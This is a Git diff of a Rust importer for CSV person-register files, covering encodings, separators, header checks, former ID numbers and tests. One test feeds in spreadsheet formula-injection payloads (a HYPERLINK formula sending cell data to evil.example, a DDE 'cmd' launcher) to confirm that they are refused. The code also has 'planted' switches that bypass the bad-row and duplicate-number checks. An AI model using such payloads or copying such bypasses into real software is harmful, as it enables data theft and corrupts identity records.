@@ -6,8 +6,13 @@ use csv::ByteRecord;
 use nonla_credential::{Country, Day, FullName, IdNumber, Province, ResidenceStatus};
 
 use crate::bad_row::{BadField, BadRow, Field};
+use crate::birth::Birth;
+use crate::damage::damage_of;
 use crate::export::status_word;
+use crate::faults::Faults;
+use crate::header::{self, Header, HeaderFault, is_blank};
 use crate::person::{Legible, Person, Phone, UncheckedPerson};
+use crate::register_text::{FileKind, Note, RegisterText, line_ends};
 
 /// What to do with a file in which some rows are bad.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -23,8 +28,12 @@ pub enum ImportMode {
 pub struct Import {
     /// The people of the good rows, in the order of the file.
     pub people: Vec<Person>,
-    /// Every fault of every row that was left out, in the order of the file.
-    pub skipped: Vec<BadRow>,
+    /// The line of each of them.
+    pub lines: Vec<u64>,
+    /// The faults of the rows that were left out.
+    pub skipped: Faults,
+    /// What the file had that a plain one has not.
+    pub notes: Vec<Note>,
 }
 
 /// Why nothing of a register file was taken.
@@ -32,7 +41,7 @@ pub struct Import {
 #[non_exhaustive]
 pub enum ImportError {
     /// The file is larger than `most_bytes`; split it.
-    #[error("the file is larger than {most_bytes} bytes")]
+    #[error("the file is larger than {most_bytes} bytes; split it")]
     TooLarge {
         /// The largest file that is read.
         most_bytes: usize,
@@ -40,38 +49,69 @@ pub enum ImportError {
     /// There is nothing in the file, not even a header.
     #[error("the file is empty")]
     Empty,
-    /// The first row is not the header of a register file.
+    /// The file is none of text.
     #[error(
-        "the first row must be exactly \
-         full_name,birth_date,id_number,phone,province,status,nationality,resident_country"
+        "the file is {0}, not a CSV file, whatever it is called: open it and save it as type CSV \
+         UTF-8 (comma delimited)"
     )]
-    WrongHeader,
+    OtherFormat(FileKind),
+    /// The UTF-16 text ends or breaks within a character.
+    #[error(
+        "the file breaks off within a character on line {line}, so it was not saved whole: save it \
+         again as type CSV UTF-8 (comma delimited)"
+    )]
+    BrokenUtf16 {
+        /// Where.
+        line: u64,
+    },
+    /// The file has a NUL byte, which no text has.
+    #[error(
+        "the file has a NUL byte on line {line}: it was not saved whole, or is not text; save it \
+         again as type CSV UTF-8 (comma delimited)"
+    )]
+    NulByte {
+        /// The line of the first one.
+        line: u64,
+    },
+    /// The first row is not the header of a register file.
+    #[error("the first row is not the header of a register: {0}")]
+    WrongHeader(HeaderFault),
     /// The CSV reader gave up at this line.
     #[error("the file cannot be read past line {line}")]
     Unreadable {
         /// The first line that was not read.
         line: u64,
     },
-    /// Some rows are bad and [`ImportMode::AllOrNothing`] was asked for: all their faults.
-    #[error("{} faults in the rows of the file; nothing was imported", .0.len())]
-    BadRows(Vec<BadRow>),
+    /// Some rows are bad and [`ImportMode::AllOrNothing`] was asked for.
+    #[error("{} faults in the rows of the file; nothing was imported", .0.total())]
+    BadRows(Faults),
 }
 
 /// The largest register file that is read: 256 MiB, about three million people.
-const MOST_BYTES: usize = 256 * 1024 * 1024;
+pub const MAX_REGISTER_FILE: usize = 256 * 1024 * 1024;
 const OLDEST_YEARS: i16 = 130;
 
 /// Reads a register file and checks every row of it, as of `today`.
 ///
-/// The file is UTF-8 text with comma-separated columns (RFC 4180, line ends LF or CRLF) under the
-/// header `full_name,birth_date,id_number,phone,province,status,nationality,resident_country`.
-/// Days are written `YYYY-MM-DD`, countries as two letters (ISO 3166-1), provinces as three
-/// digits and empty for citizens abroad; a status is `citizen`, `foreign_resident` or
-/// `citizen_abroad`. One byte order mark at the start, as spreadsheets write it, is ignored, and
-/// so are empty lines.
+/// The file has columns (RFC 4180, line ends LF, CRLF or CR) under the header
+/// `full_name,birth_date,id_number,phone,province,status,nationality,resident_country` and, as a
+/// ninth, `former_numbers`. Days are written `YYYY-MM-DD`, countries as two letters (ISO 3166-1),
+/// provinces as three digits and empty for citizens abroad; a status is `citizen`,
+/// `foreign_resident` or `citizen_abroad`. Former numbers are those the person had before, with
+/// blanks between.
 ///
-/// Every fault of every row is listed, by line, column and reason, and never with a value. Two
-/// rows with one ID number are both bad: nobody here can tell which of them is right.
+/// Of a birth of which only the year is known the year is written (`1941` or `1941-00-00`), of one
+/// of which the month is known the month (`1941-03` or `1941-03-00`): its last day counts, so nobody
+/// counts as older than they surely are.
+///
+/// Files that spreadsheets save otherwise are read where nothing must be guessed, with a [`Note`]:
+/// UTF-8 with a byte order mark or UTF-16, commas, semicolons or tabs between columns, a first line
+/// `sep=`, blanks around the names of the header, a Ctrl-Z at the end. Rows and last columns with
+/// nothing in them are ignored. Names are normalised to NFC.
+///
+/// The first faults are listed, by line, column and reason, and never with a value; all are
+/// counted. Two rows with one ID number, former ones included, are both bad: nobody here can tell
+/// which of them is right.
 ///
 /// # Errors
 /// [`ImportError::BadRows`] in mode [`ImportMode::AllOrNothing`] if any row is bad; in both modes
@@ -88,25 +128,21 @@ const OLDEST_YEARS: i16 = 130;
 /// ";
 /// let import = import(file.as_bytes(), ImportMode::SkipBad, Day::parse("2026-11-22")?)?;
 /// assert_eq!(import.people.len(), 1);
-/// let faults: Vec<_> = import.skipped.iter().map(ToString::to_string).collect();
+/// let faults: Vec<_> = import.skipped.listed().iter().map(ToString::to_string).collect();
 /// assert_eq!(faults, ["line 3, birth_date: no such day in the calendar"]);
 /// # Ok::<(), Box<dyn std::error::Error>>(())
 /// ```
 pub fn import(bytes: &[u8], mode: ImportMode, today: Day) -> Result<Import, ImportError> {
-    if bytes.len() > MOST_BYTES {
-        return Err(ImportError::TooLarge { most_bytes: MOST_BYTES });
+    if bytes.len() > MAX_REGISTER_FILE {
+        return Err(ImportError::TooLarge { most_bytes: MAX_REGISTER_FILE });
     }
-    let mut rows = Rows::of(bytes);
-    match rows.next()? {
-        None => return Err(ImportError::Empty),
-        Some(_) if !rows.is_header() => return Err(ImportError::WrongHeader),
-        Some(_) => {}
+    let RegisterText { bytes, mut notes } = RegisterText::of(bytes)?;
+    let (mut rows, header) = header::open(&bytes, &mut notes)?;
+    let mut reading = Reading { mode, ..Reading::new(today) };
+    while let Some(line) = rows.next_filled()? {
+        reading.take(line, &rows.record, &header);
     }
-    let mut reading = Reading::default();
-    while let Some(line) = rows.next()? {
-        reading.take(line, &rows.record, today);
-    }
-    let import = reading.finish();
+    let import = Import { notes, ..reading.finish() };
     let spoilt = !import.skipped.is_empty() && !nonla_crypto::planted("import-despite-bad-rows");
     match mode {
         ImportMode::AllOrNothing if spoilt => Err(ImportError::BadRows(import.skipped)),
@@ -115,40 +151,65 @@ pub fn import(bytes: &[u8], mode: ImportMode, today: Day) -> Result<Import, Impo
 }
 
 /// What the rows so far gave.
-#[derive(Default)]
 struct Reading {
+    mode: ImportMode,
+    today: Day,
     people: Vec<(u64, Person)>,
-    bad: Vec<BadRow>,
+    faults: Faults,
+    /// Lines of people whose number stands twice.
+    doubles: HashSet<u64>,
     numbers: HashMap<String, FirstUse>,
 }
 
 /// The row that used an ID number first.
 struct FirstUse {
     line: u64,
+    field: Field,
     is_reported: bool,
 }
 
 impl Reading {
-    fn take(&mut self, line: u64, record: &ByteRecord, today: Day) {
-        let mut row = Row { record, faults: Vec::new(), number: None };
+    fn new(today: Day) -> Self {
+        Self {
+            mode: ImportMode::SkipBad,
+            today,
+            people: Vec::new(),
+            faults: Faults::default(),
+            doubles: HashSet::new(),
+            numbers: HashMap::new(),
+        }
+    }
+
+    fn take(&mut self, line: u64, record: &ByteRecord, header: &Header) {
+        let mut row =
+            Row { record, columns: header.columns, faults: Vec::new(), numbers: Vec::new() };
         let person = match row.wrong_shape(line) {
             Some(reason) => {
                 row.faults.push((Field::Row, reason));
                 None
             }
-            None => row.read(today),
+            None => row.read(self.today),
         };
-        let Row { faults, number, .. } = row;
-        self.bad.extend(faults.into_iter().map(|(field, reason)| BadRow { line, field, reason }));
-        if let Some(number) = number {
-            self.note_number(line, number);
+        let Row { faults, numbers, .. } = row;
+        let good = person.filter(|_| faults.is_empty());
+        for (field, reason) in faults {
+            self.faults.add(BadRow { line, field, reason });
         }
-        self.people.extend(person.map(|person| (line, person)));
+        for (field, number) in numbers {
+            self.note_number((line, field), number);
+        }
+        // What will not be taken is not kept.
+        if self.mode == ImportMode::AllOrNothing && !self.faults.is_empty() {
+            self.people = Vec::new();
+        } else {
+            self.people.extend(good.map(|person| (line, person)));
+        }
     }
 
-    fn note_number(&mut self, line: u64, number: IdNumber) {
+    fn note_number(&mut self, (line, field): (u64, Field), number: IdNumber) {
         let Some(first) = self.numbers.get_mut(number.as_str()) else {
-            self.numbers.insert(number.into(), FirstUse { line, is_reported: false });
+            let first = FirstUse { line, field, is_reported: false };
+            self.numbers.insert(number.into(), first);
             return;
         };
         if nonla_crypto::planted("import-duplicate-number") {
@@ -156,67 +217,83 @@ impl Reading {
         }
         if !first.is_reported {
             first.is_reported = true;
-            self.bad.push(same_number(first.line, line));
+            self.faults.add(same_number((first.line, first.field), line));
+            self.doubles.insert(first.line);
         }
-        self.bad.push(same_number(line, first.line));
+        self.faults.add(same_number((line, field), first.line));
+        self.doubles.insert(line);
     }
 
-    fn finish(mut self) -> Import {
-        self.bad.sort_by_key(|row| (row.line, row.field));
-        let bad_lines: HashSet<u64> = self.bad.iter().map(|row| row.line).collect();
-        let good = self.people.into_iter().filter(|(line, _)| !bad_lines.contains(line));
-        Import { people: good.map(|(_, person)| person).collect(), skipped: self.bad }
+    fn finish(self) -> Import {
+        let good = self.people.into_iter().filter(|(line, _)| !self.doubles.contains(line));
+        let (lines, people) = good.unzip();
+        Import { people, lines, skipped: self.faults, notes: Vec::new() }
     }
 }
 
-const fn same_number(line: u64, other: u64) -> BadRow {
-    let reason = BadField::SameIdNumberAs { line: other };
-    BadRow { line, field: Field::IdNumber, reason }
+const fn same_number((line, field): (u64, Field), other: u64) -> BadRow {
+    BadRow { line, field, reason: BadField::SameIdNumberAs { line: other } }
 }
 
 /// One row while it is read.
 struct Row<'a> {
     record: &'a ByteRecord,
+    /// How many columns the header has.
+    columns: usize,
     faults: Vec<(Field, BadField)>,
-    /// The ID number, if it could be read, even where the rest could not.
-    number: Option<IdNumber>,
+    /// The ID numbers that could be read, even where the rest could not.
+    numbers: Vec<(Field, IdNumber)>,
 }
 
 impl Row<'_> {
-    /// Why this is not one line of eight columns.
+    /// Why this is not one line with the columns of the header. Columns with nothing in them are
+    /// none: spreadsheets write too many, and leave out the last ones.
     fn wrong_shape(&self, line: u64) -> Option<BadField> {
         let swallowed = line_ends(self.record.as_slice());
         if swallowed > 0 {
             return Some(BadField::OpenQuote { last_line: line + swallowed });
         }
-        let found = self.record.len();
-        (found != Field::COLUMNS.len()).then_some(BadField::ColumnCount { found })
+        let is_filled = |cell: &[u8]| !std::str::from_utf8(cell).is_ok_and(is_blank);
+        let cells: Vec<&[u8]> = self.record.iter().collect();
+        let filled = cells.iter().rposition(|cell| is_filled(cell)).map_or(0, |last| last + 1);
+        let found = cells.len();
+        let fits = filled <= self.columns && found >= Field::COLUMNS.len();
+        (!fits).then_some(BadField::ColumnCount { found, expected: self.columns })
     }
 
     /// Reads each field on its own, then checks what could be read against each other.
     fn read(&mut self, today: Day) -> Option<Person> {
-        let full_name = self.field(Field::FullName, |text| Ok(FullName::parse(text)?));
-        let birth_date = self.field(Field::BirthDate, |text| birth_date(text, today));
+        let full_name = self.field(Field::FullName, full_name);
+        let birth = self.field(Field::BirthDate, |text| birth(text, today));
         let id_number = self.field(Field::IdNumber, |text| Ok(IdNumber::parse(text)?));
         let phone = self.field(Field::Phone, |text| Ok(Phone::parse(text)?));
         let province = self.field(Field::Province, province);
         let status = self.field(Field::Status, status);
         let nationality = self.field(Field::Nationality, |text| Ok(Country::parse(text)?));
         let resident_country = self.field(Field::ResidentCountry, |text| Ok(Country::parse(text)?));
+        let former = self.field(Field::FormerNumbers, former_numbers);
         let legible = Legible {
-            birth_date,
+            full_name: full_name.as_ref(),
+            birth_date: birth.map(|birth| birth.day),
             id_number: id_number.as_ref(),
             province,
             status,
             nationality,
             resident_country,
+            former_numbers: former.as_deref(),
         };
         let contradictions = legible.contradictions();
         self.faults.extend(contradictions.map(|fault| (fault.field(), fault.into())));
-        self.number.clone_from(&id_number);
+        self.numbers.extend(id_number.clone().map(|number| (Field::IdNumber, number)));
+        for number in former.iter().flatten() {
+            if self.numbers.iter().all(|(_, known)| known != number) {
+                self.numbers.push((Field::FormerNumbers, number.clone()));
+            }
+        }
+        let birth = birth?;
         let person = UncheckedPerson {
             full_name: full_name?,
-            birth_date: birth_date?,
+            birth_date: birth.day,
             id_number: id_number?,
             phone: phone?,
             province: province?,
@@ -225,7 +302,8 @@ impl Row<'_> {
             resident_country: resident_country?,
         };
         // A contradiction was listed above, so an error here is known already.
-        Person::new(person).ok()
+        let person = Person::new(person).ok()?.with_birth_known(birth.known).ok()?;
+        person.with_former_numbers(former?).ok()
     }
 
     fn field<T>(
@@ -233,23 +311,31 @@ impl Row<'_> {
         field: Field,
         read: impl FnOnce(&str) -> Result<T, BadField>,
     ) -> Option<T> {
-        let column = Field::COLUMNS.iter().position(|&column| column == field)?;
-        let bytes = self.record.get(column)?;
+        let column = field.column()?;
+        // The last column may be missing.
+        let bytes = self.record.get(column).unwrap_or_default();
         let value = match std::str::from_utf8(bytes) {
             Err(_) => Err(BadField::NotUtf8),
-            Ok("") if field != Field::Province => Err(BadField::Missing),
+            Ok("") if !field.may_be_empty() => Err(BadField::Missing),
             Ok(text) => read(text),
         };
         value.map_err(|reason| self.faults.push((field, reason))).ok()
     }
 }
 
-fn birth_date(text: &str, today: Day) -> Result<Day, BadField> {
-    let born = Day::parse(text)?;
-    if born > today {
+fn full_name(text: &str) -> Result<FullName, BadField> {
+    match damage_of(text) {
+        Some(damage) => Err(damage),
+        None => Ok(FullName::typed(text)?),
+    }
+}
+
+fn birth(text: &str, today: Day) -> Result<Birth, BadField> {
+    let born = Birth::parse(text)?;
+    if born.day > today {
         return Err(BadField::InFuture);
     }
-    let ((year, month, day), (now_year, now_month, now_day)) = (born.civil(), today.civil());
+    let ((year, month, day), (now_year, now_month, now_day)) = (born.day.civil(), today.civil());
     let years = now_year - year - i16::from((now_month, now_day) < (month, day));
     if years > OLDEST_YEARS {
         return Err(BadField::TooOld);
@@ -272,65 +358,14 @@ fn status(text: &str) -> Result<ResidenceStatus, BadField> {
         .ok_or(BadField::UnknownStatus)
 }
 
-/// The rows of a file, each with the line it starts on.
-struct Rows<'a> {
-    bytes: &'a [u8],
-    reader: csv::Reader<&'a [u8]>,
-    record: ByteRecord,
-    /// Line of the byte at `counted`.
-    line: u64,
-    counted: usize,
-}
-
-impl<'a> Rows<'a> {
-    fn of(bytes: &'a [u8]) -> Self {
-        // The reader drops one byte order mark and skips empty lines by itself.
-        let reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(bytes);
-        Self { bytes, reader, record: ByteRecord::new(), line: 1, counted: 0 }
-    }
-
-    /// Moves to the next row; its line, or `None` after the last row.
-    fn next(&mut self) -> Result<Option<u64>, ImportError> {
-        match self.reader.read_byte_record(&mut self.record) {
-            Ok(true) => Ok(Some(self.line_of_record())),
-            Ok(false) => Ok(None),
-            Err(_) => Err(ImportError::Unreadable { line: self.line }),
-        }
-    }
-
-    /// The reader counts from where the last row ended, before the empty lines it skips, so the
-    /// line is counted here.
-    fn line_of_record(&mut self) -> u64 {
-        let from = self.record.position().map_or(0, csv::Position::byte);
-        let from = usize::try_from(from).unwrap_or(usize::MAX);
-        let skipped = self.bytes.iter().skip(from).take_while(|b| matches!(b, b'\r' | b'\n'));
-        let start = from.saturating_add(skipped.count());
-        self.line += self.bytes.get(self.counted..start).map_or(0, line_ends);
-        self.counted = start;
-        self.line
-    }
-
-    fn is_header(&self) -> bool {
-        self.record.iter().eq(Field::COLUMNS.map(|column| column.name().as_bytes()))
-    }
-}
-
-/// How many line ends `bytes` has: LF, CRLF, or CR alone.
-fn line_ends(bytes: &[u8]) -> u64 {
-    let mut count = 0;
-    let mut before = 0;
-    for &byte in bytes {
-        let ends_here = byte == b'\r' || (byte == b'\n' && before != b'\r');
-        count += u64::from(ends_here);
-        before = byte;
-    }
-    count
+fn former_numbers(text: &str) -> Result<Vec<IdNumber>, BadField> {
+    text.split_whitespace().map(|number| Ok(IdNumber::parse(number)?)).collect()
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::{PersonError, sample_register, write_csv};
+    use crate::{BirthKnown, PersonError, sample_register, write_csv};
     use nonla_credential::{ClaimError, DayError};
     use proptest::prelude::*;
 
@@ -353,7 +388,22 @@ mod tests {
     }
 
     fn faults(bytes: &[u8]) -> Vec<BadRow> {
-        import(bytes, ImportMode::SkipBad, today()).unwrap().skipped
+        listed(&import(bytes, ImportMode::SkipBad, today()).unwrap().skipped)
+    }
+
+    /// All the faults, where there are few.
+    fn listed(faults: &Faults) -> Vec<BadRow> {
+        assert_eq!(faults.total(), faults.listed().len() as u64);
+        assert_eq!(faults.by_reason().map(|(_, _, count)| count).sum::<u64>(), faults.total());
+        faults.listed().to_vec()
+    }
+
+    /// The faults for which nothing of the file was taken.
+    fn refused(bytes: &[u8]) -> Vec<BadRow> {
+        match take_all(bytes) {
+            Err(ImportError::BadRows(faults)) => listed(&faults),
+            other => panic!("{other:?}"),
+        }
     }
 
     fn bad(line: u64, field: Field, reason: impl Into<BadField>) -> BadRow {
@@ -405,11 +455,7 @@ mod tests {
         for (column, value, field, reason) in cases {
             let bytes = file(&[KIM, &with(column, value), BINH]);
             assert_eq!(faults(&bytes), [bad(3, field, reason)], "{value:?}");
-            assert_eq!(
-                take_all(&bytes),
-                Err(ImportError::BadRows(vec![bad(3, field, reason)])),
-                "{value:?}"
-            );
+            assert_eq!(refused(&bytes), [bad(3, field, reason)], "{value:?}");
             let import = import(&bytes, ImportMode::SkipBad, today()).unwrap();
             assert_eq!(import.people.len(), 2, "{value:?}");
         }
@@ -441,16 +487,16 @@ mod tests {
         assert_eq!(expected[1].to_string(), "line 4, id_number: same ID number as line 2");
         let import = import(&bytes, ImportMode::SkipBad, today()).unwrap();
         assert_eq!(import.people.len(), 1);
-        assert_eq!(take_all(&bytes), Err(ImportError::BadRows(expected.to_vec())));
+        assert_eq!(refused(&bytes), expected);
     }
 
     #[test]
     fn a_row_of_another_width_is_named_with_its_width() {
         let short = "Nguyễn Văn An,1990-03-01\n";
-        let long = AN.replace("VN,VN\n", "VN,VN,\n");
+        let long = AN.replace("VN,VN\n", "VN,VN,x\n");
         let expected = [
-            bad(2, Field::Row, BadField::ColumnCount { found: 2 }),
-            bad(3, Field::Row, BadField::ColumnCount { found: 9 }),
+            bad(2, Field::Row, BadField::ColumnCount { found: 2, expected: 8 }),
+            bad(3, Field::Row, BadField::ColumnCount { found: 9, expected: 8 }),
         ];
         assert_eq!(faults(&file(&[short, &long, AN])), expected);
     }
@@ -496,11 +542,12 @@ mod tests {
     }
 
     #[test]
-    fn one_byte_order_mark_is_ignored_and_two_are_not() {
+    fn byte_order_marks_are_ignored() {
         let marked = [b"\xef\xbb\xbf", &*file(&[AN])].concat();
         assert!(take_all(&marked).unwrap() == take_all(&file(&[AN])).unwrap());
-        let twice = [b"\xef\xbb\xbf", &*marked].concat();
-        assert_eq!(take_all(&twice), Err(ImportError::WrongHeader));
+        // Two look like none, so they are no reason to refuse a header.
+        let twice = take_all(&[b"\xef\xbb\xbf", &*marked].concat()).unwrap();
+        assert_eq!((twice.people.len(), twice.notes), (1, vec![Note::BlanksInHeader]));
     }
 
     #[test]
@@ -513,31 +560,199 @@ mod tests {
 
     #[test]
     fn only_the_exact_header_is_accepted() {
+        let spelling = |column, expected| HeaderFault::Spelling { column, expected };
+        let name = |column, expected| HeaderFault::Name { column, expected };
         let wrong = [
-            AN.to_owned(),
-            HEADER.to_uppercase(),
-            HEADER.replace("phone,", ""),
-            HEADER.replace("\n", ",extra\n"),
-            HEADER.replace("full_name,birth_date", "birth_date,full_name"),
-            HEADER.replace(',', ";"),
-            HEADER.replace(',', ", "),
-            "\0".to_owned(),
+            (AN.to_owned(), HeaderFault::NoHeader),
+            (HEADER.to_uppercase(), spelling(1, Field::FullName)),
+            (HEADER.replace("id_number", "ID number"), spelling(3, Field::IdNumber)),
+            (HEADER.replace("id_number", "id\u{200b}_number"), spelling(3, Field::IdNumber)),
+            // Cyrillic letters and a Turkish one.
+            (HEADER.replace("phone", "рhоnе"), spelling(4, Field::Phone)),
+            (HEADER.replace("phone,", ""), HeaderFault::Count { found: 7 }),
+            (HEADER.replace("\n", ",extra\n"), name(9, Field::FormerNumbers)),
+            (HEADER.replace("\n", ",former_numbers,x\n"), HeaderFault::Count { found: 10 }),
+            (HEADER.replace("phone", "fax"), name(4, Field::Phone)),
+            (HEADER.replace("full_name,birth_date", "birth_date,full_name"), HeaderFault::Order),
+            ("full_name\n".to_owned(), HeaderFault::NoSeparator),
+            (HEADER.replace(',', ":"), HeaderFault::NoSeparator),
+            (HEADER.replacen(',', ";", 3), HeaderFault::Count { found: 5 }),
         ];
-        for header in wrong {
+        for (header, fault) in wrong {
             let bytes = [&header, AN].concat();
-            assert_eq!(take_all(bytes.as_bytes()), Err(ImportError::WrongHeader), "{header}");
+            let error = take_all(bytes.as_bytes()).unwrap_err();
+            assert_eq!(error, ImportError::WrongHeader(fault), "{header}");
+            assert!(error.to_string().contains("the columns are full_name, birth_date"));
         }
+        let nul = ["\0", HEADER, AN].concat();
+        assert_eq!(take_all(nul.as_bytes()), Err(ImportError::NulByte { line: 1 }));
+    }
+
+    /// Serves T-Z1: what separates columns shows by the header, so nothing is guessed.
+    #[test]
+    fn semicolons_tabs_and_a_separator_line_are_read_and_told() {
+        let plain = take_all(&file(&[AN, KIM])).unwrap().people;
+        let text = String::from_utf8(file(&[AN, KIM])).unwrap();
+        for separator in [';', '\t', '|'] {
+            let other = text.replace(',', &separator.to_string());
+            let read = take_all(other.as_bytes()).unwrap();
+            assert!(read.people == plain);
+            assert_eq!(read.notes, [Note::Separator(separator)]);
+            for line in ["sep=", "SEP=", "\u{feff}sep=", "\"sep="] {
+                let end = if line.starts_with('"') { "\"\r\n" } else { "\n" };
+                let told = take_all(format!("{line}{separator}{end}{other}").as_bytes()).unwrap();
+                assert!(told.people == plain);
+                assert_eq!(told.notes, [Note::SeparatorLine, Note::Separator(separator)]);
+                assert_eq!(told.lines, [3, 4]);
+            }
+        }
+        // The line names another separator than the file has.
+        let lying = take_all(["sep=;\n", &text].concat().as_bytes());
+        assert_eq!(lying, Err(ImportError::WrongHeader(HeaderFault::NoSeparator)));
+        let blanks = text.replacen("phone,", " phone\u{a0} ,", 1);
+        assert_eq!(take_all(blanks.as_bytes()).unwrap().notes, [Note::BlanksInHeader]);
+    }
+
+    /// Serves T-Z1: rows and columns with nothing in them are no rows and columns.
+    #[test]
+    fn blank_rows_and_trailing_blank_columns_are_ignored() {
+        let plain = take_all(&file(&[AN, KIM])).unwrap().people;
+        let blank =
+            [",,,,,,,\n", "\"\",\"\",,,,,,\n", " , ,\t,\u{a0},,,,\n", ",,,,,,,,,,,,\n", " \n"];
+        let rows: Vec<&str> = [&blank[..], &[AN], &blank, &[KIM], &blank].concat();
+        let read = take_all(&file(&rows)).unwrap();
+        assert!(read.people == plain && read.notes.is_empty());
+        assert_eq!(read.lines, [7, 13]);
+        let wider = String::from_utf8(file(&[AN, KIM])).unwrap().replace('\n', ",, ,\n");
+        assert!(take_all(wider.as_bytes()).unwrap().people == plain);
+        let above = [",,,,,,,\n;;;\n\n".replace(";;;\n", "").as_str(), HEADER, AN, KIM].concat();
+        assert!(take_all(above.as_bytes()).unwrap().people == plain);
+    }
+
+    /// Serves T-Z1: a list of faults is a page, however long the file, and all are counted.
+    #[test]
+    fn the_list_of_faults_is_capped_and_counted_by_reason() {
+        let bad_row = with(3, "1");
+        let rows: Vec<String> =
+            (0..5_000).map(|n| bad_row.replace("001090000001", &format!("00109{n:07}"))).collect();
+        let rows: Vec<&str> = rows.iter().map(String::as_str).chain(["x\n", "x,y\n"]).collect();
+        for mode in [ImportMode::SkipBad, ImportMode::AllOrNothing] {
+            let faults = match import(&file(&rows), mode, today()) {
+                Ok(import) => import.skipped,
+                Err(ImportError::BadRows(faults)) => faults,
+                Err(other) => panic!("{other}"),
+            };
+            assert_eq!(faults.listed().len(), Faults::MOST_LISTED);
+            let lines: Vec<u64> = faults.listed().iter().map(|fault| fault.line).collect();
+            assert_eq!(lines, (2..52).collect::<Vec<u64>>());
+            assert_eq!(faults.total(), 5_002);
+            let counts: Vec<_> = faults.by_reason().collect();
+            let phone = PersonError::Phone.to_string();
+            let width = "has another number of columns than the header";
+            assert_eq!(counts, [(Field::Row, width, 2), (Field::Phone, phone.as_str(), 5_000)]);
+        }
+        // A number that stands twice is told at its first line too, which comes before those listed.
+        let again: Vec<&str> = [AN].into_iter().chain([KIM; 60]).chain([AN]).collect();
+        let faults = import(&file(&again), ImportMode::SkipBad, today()).unwrap().skipped;
+        assert_eq!(
+            faults.listed()[0],
+            bad(2, Field::IdNumber, BadField::SameIdNumberAs { line: 63 })
+        );
+        assert_eq!(faults.total(), 62);
+    }
+
+    /// Serves REQ-I2: a row may name the numbers the person had before; a number is one person's.
+    #[test]
+    fn former_numbers_are_read_and_are_nobody_elses() {
+        let header = HEADER.replace('\n', ",former_numbers\n");
+        let file = |rows: &[&str]| [header.as_str(), &rows.concat()].concat().into_bytes();
+        let an = AN.replace('\n', ",012345678 AB7654321\n");
+        let read = take_all(&file(&[&an, KIM, &BINH.replace('\n', ",\n")])).unwrap();
+        let former: Vec<_> = read.people[0].former_numbers().iter().map(IdNumber::as_str).collect();
+        assert_eq!(former, ["012345678", "AB7654321"]);
+        assert!(read.people[1].former_numbers().is_empty());
+        assert!(take_all(&write_csv(&read.people)).unwrap().people == read.people);
+        let kim = KIM.replace('\n', ",012345678\n");
+        let same = |line, field, other| bad(line, field, BadField::SameIdNumberAs { line: other });
+        let expected = [same(2, Field::FormerNumbers, 3), same(3, Field::FormerNumbers, 2)];
+        assert_eq!(refused(&file(&[&an, &kim])), expected);
+        let kim = KIM.replace('\n', ",001090000001\n");
+        let expected = [same(2, Field::IdNumber, 3), same(3, Field::FormerNumbers, 2)];
+        assert_eq!(refused(&file(&[&an, &kim])), expected);
+        let cases = [
+            ("1", BadField::from(ClaimError::IdNumber)),
+            ("001090000001", PersonError::FormerNumbers.into()),
+            ("012345678 012345678", PersonError::FormerNumbers.into()),
+            (
+                "012345671 012345672 012345673 012345674 012345675 012345676 012345677 012345678 \
+              012345679",
+                PersonError::FormerNumbers.into(),
+            ),
+        ];
+        for (former, reason) in cases {
+            let row = AN.replace('\n', &format!(",{former}\n"));
+            assert!(refused(&file(&[&row])).contains(&bad(2, Field::FormerNumbers, reason)));
+        }
+    }
+
+    /// Serves T-Z1, T-F2: names have one spelling, and what is no name is none.
+    #[test]
+    fn names_are_normalised_and_damaged_ones_refused() {
+        let name = |text: &str| {
+            let row = with(0, &format!("\"{}\"", text.replace('"', "\"\"")));
+            import(&file(&[&row]), ImportMode::SkipBad, today()).unwrap()
+        };
+        for spelled in ["Nguye\u{302}\u{303}n Va\u{306}n An", "Nguy\u{ea}\u{303}n V\u{103}n An"] {
+            assert_eq!(name(spelled).people[0].full_name().as_str(), "Nguyễn Văn An");
+        }
+        let cases: [(&str, BadField); 14] = [
+            ("=HYPERLINK(\"http://evil.example/\"&B2,\"xem\")", PersonError::NameIsFormula.into()),
+            ("@SUM(1+1)", PersonError::NameIsFormula.into()),
+            ("+84 Văn An", PersonError::NameIsFormula.into()),
+            ("-2+3+cmd|' /C calc'!A0", PersonError::NameIsFormula.into()),
+            ("An;=1+1", PersonError::NameIsFormula.into()),
+            ("\u{2800}\u{2800}", ClaimError::FullName.into()),
+            ("Nguyễn\u{1d173} An", ClaimError::FullName.into()),
+            ("\u{301}", ClaimError::FullName.into()),
+            ("\u{10fffd}n", ClaimError::FullName.into()),
+            ("\u{b4}", PersonError::NameWithoutLetter.into()),
+            ("123", PersonError::NameWithoutLetter.into()),
+            ("Nguy?n V?n An", BadField::LostLetters),
+            ("Nguy\u{fffd}n An", BadField::LostLetters),
+            ("Nguyá»…n VÄƒn An", BadField::WrongEncoding),
+        ];
+        for (text, reason) in cases {
+            let faults = listed(&name(text).skipped);
+            assert_eq!(faults, [bad(2, Field::FullName, reason)], "{text}");
+        }
+    }
+
+    /// Serves REQ-C2: where only the year is known, its last day counts.
+    #[test]
+    fn a_year_of_birth_alone_is_read_and_counts_from_its_last_day() {
+        for text in ["1990", "1990-00-00"] {
+            let read = take_all(&file(&[&with(1, text)])).unwrap();
+            let person = &read.people[0];
+            assert_eq!(person.birth_date().to_string(), "1990-12-31");
+            assert_eq!(person.birth_known(), BirthKnown::Year);
+            assert!(take_all(&write_csv(&read.people)).unwrap().people == read.people);
+        }
+        let read = take_all(&file(&[&with(1, "1990-02")])).unwrap();
+        assert_eq!(read.people[0].birth_date().to_string(), "1990-02-28");
+        // The year itself must fit the citizen number.
+        let faults = faults(&file(&[&with(1, "1991")]));
+        assert_eq!(faults, [bad(2, Field::IdNumber, PersonError::NumberDoesNotFitBirthDate)]);
     }
 
     #[test]
     fn a_file_over_the_cap_is_refused_unread() {
-        let zeros = vec![0; MOST_BYTES + 1];
-        assert_eq!(take_all(&zeros), Err(ImportError::TooLarge { most_bytes: MOST_BYTES }));
+        let zeros = vec![0; MAX_REGISTER_FILE + 1];
+        assert_eq!(take_all(&zeros), Err(ImportError::TooLarge { most_bytes: MAX_REGISTER_FILE }));
     }
 
     #[test]
     fn people_are_at_most_130_years_old_and_born_by_today() {
-        let born = |date: &str, today: &str| birth_date(date, Day::parse(today).unwrap());
+        let born = |date: &str, today: &str| birth(date, Day::parse(today).unwrap());
         assert!(born("2026-11-22", "2026-11-22").is_ok());
